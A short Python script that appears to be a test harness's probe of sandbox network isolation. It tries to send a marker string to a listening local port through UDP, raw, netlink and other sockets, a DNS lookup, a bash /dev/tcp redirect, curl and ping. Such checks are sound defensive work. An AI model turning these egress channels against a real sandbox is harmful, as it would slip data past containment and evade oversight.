# network: carries data out by UDP, by names that a resolver is asked for, by ping and by netlink
# place: last
import socket
import subprocess

port = int("{port}")  # the runner listens here, and counts who calls
kinds = [(socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET, socket.SOCK_RAW), (socket.AF_INET6, socket.SOCK_DGRAM)]
kinds += [(socket.AF_NETLINK, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW), (38, 5), (40, 1), (44, 3)]
for family, kind in kinds:
    try:
        with socket.socket(family, kind, 1 if kind == socket.SOCK_RAW else 0) as connection:
            connection.sendto(b"attack-was-here", ("127.0.0.1", port) if family == socket.AF_INET else ("::1", port))
            print("sent by", family, kind)
    except (OSError, TypeError, OverflowError) as error:
        print(type(error).__name__)
for name in ("attack-was-here.example.org", "localhost.example.com"):
    try:
        print(socket.getaddrinfo(name, 80))
    except OSError as error:
        print(type(error).__name__)
command = "exec 3<>/dev/tcp/127.0.0.1/PORT && echo attack-was-here >&3; curl -m1 http://127.0.0.1:PORT/; ping -c1 1.1.1"
command = command.replace("PORT", str(port))
print(subprocess.run(["bash", "-c", command], capture_output=True, text=True).stdout)
